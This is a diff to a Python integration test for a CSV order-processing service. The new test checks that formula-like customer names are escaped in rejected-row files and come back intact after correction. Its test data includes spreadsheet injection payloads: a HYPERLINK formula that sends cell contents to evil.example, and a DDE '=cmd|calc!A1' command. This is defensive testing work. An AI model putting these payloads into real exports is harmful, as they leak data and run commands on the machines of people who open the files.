@@ -10,7 +10,7 @@ import pytest
 
 from processor.domain.file_states import FileState
 from processor.ledger.ledger import Ledger
-from tests.integration.stage import BAD_ROW, GOOD_ROWS, csv_file
+from tests.integration.stage import BAD_ROW, GOOD_ROWS, HEADER, csv_file
 from tests.rejected_files import read_rejected_rows
 
 if TYPE_CHECKING:
@@ -88,6 +88,21 @@ def test_corrected_rejected_rows_can_be_uploaded_as_they_are(stage: Stage) -> No
     assert entry.state is FileState.PROCESSED
     assert entry.warnings == ()
     assert sorted(order["order_id"] for order in stage.orders()) == ["A-1", "A-3"]
+
+
+def test_formulas_come_back_exactly_with_the_corrected_rows(stage: Stage) -> None:
+    """In a spreadsheet they are text; corrected there and uploaded again, each value is the one that was sent."""
+    names = '=HYPERLINK("https://evil.example/?"&A1)', "x;=cmd|calc!A1", "'=already", "+49 30 1234"
+    rows = [f'A-{at},"{name.replace(chr(34), chr(34) * 2)}",Pen,none,1.00' for at, name in enumerate(names)]
+    entry = stage.process("orders.csv", csv_file(*rows, header=HEADER))
+    rejected = stage.read(entry.rejected_key)
+
+    again = stage.process("corrected.csv", rejected.replace(b"none", b"1"))
+
+    opened = [row[1] for row in stage.read_csv(entry.rejected_key)[1:]]
+    assert opened == [f"'{names[0]}", "x;'=cmd|calc!A1", "''=already", "'+49 30 1234"]
+    assert again.state is FileState.PROCESSED
+    assert {order["customer_name"] for order in stage.orders()} == set(names)
 
 
 def test_file_whose_every_row_is_bad_is_partial_with_no_empty_object(stage: Stage) -> None:
